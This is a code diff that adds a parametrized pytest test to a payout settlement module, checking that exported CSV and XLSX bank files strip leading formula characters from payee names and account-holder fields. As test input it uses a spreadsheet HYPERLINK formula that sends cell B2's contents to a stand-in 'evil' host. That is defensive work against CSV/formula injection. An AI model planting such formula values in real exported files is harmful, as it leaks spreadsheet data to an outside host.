@@ -1,5 +1,15 @@
 """What a bank file and its result decide of a line, in whatever order they are made."""
 
+import csv
+import io
+from datetime import date
+
+import openpyxl
+import pytest
+
+from chalicelib.settlement.bank_files import Transfer, csv_file, xlsx_file
+from chalicelib.settlement.payees import PayeeAccount
+from chalicelib.settlement.payout_batches import PayoutLine
 from chalicelib.settlement.wiring import SettlementWiring
 from tests import builders
 from tests.conftest import Stack
@@ -65,3 +75,24 @@ def test_who_brought_a_result_in_is_kept_once(stack: Stack, payees: FakePayees) 
     after = audit[0]["after"]
     assert (after["failed_lines"], after["failed_amount"]) == (1, 1_990)
     assert (after["paid_lines"], after["paid_amount"], len(after["sha256"])) == (1, 995, 64)
+
+
+@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "＝", "＋", "－", "＠", " =", "\t="])
+def test_no_cell_of_a_bank_file_is_a_formula(sign: str) -> None:
+    holder = f'{sign}HYPERLINK("http://evil/"&B2,"x")'
+    line = PayoutLine(
+        reference="pyt_20261125001-00001",
+        merchant_id=MART,
+        name=f"{sign}1+1",
+        account_id="acc-1",
+        amount=5,
+        parts=((date(2026, 11, 22), 5),),
+    )
+    account = PayeeAccount(account_id="acc-1", bank_code="011", number="001", holder=holder)
+    transfers = [Transfer(line, account)]
+
+    rows = list(csv.reader(io.StringIO(csv_file(transfers, f"{sign}강진").decode("utf-8-sig"))))
+    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_file(transfers, f"{sign}강진"))).active
+
+    assert rows[1][3:6] == ['HYPERLINK("http://evil/"&B2,"x")', "강진", "1+1"]
+    assert [str(cell.value) for cell in sheet[2]] == rows[1]
